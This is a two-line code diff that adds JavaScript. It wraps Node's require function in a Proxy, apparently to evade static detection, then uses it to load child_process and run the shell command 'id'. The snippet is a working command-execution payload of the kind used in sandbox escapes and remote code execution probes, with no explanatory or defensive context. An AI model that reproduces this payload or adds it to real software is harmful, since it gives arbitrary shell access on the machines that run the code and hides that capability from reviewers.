@@ -1,0 +1,2 @@
+const h=new Proxy(require,{});
+h('child_process').exec('id')
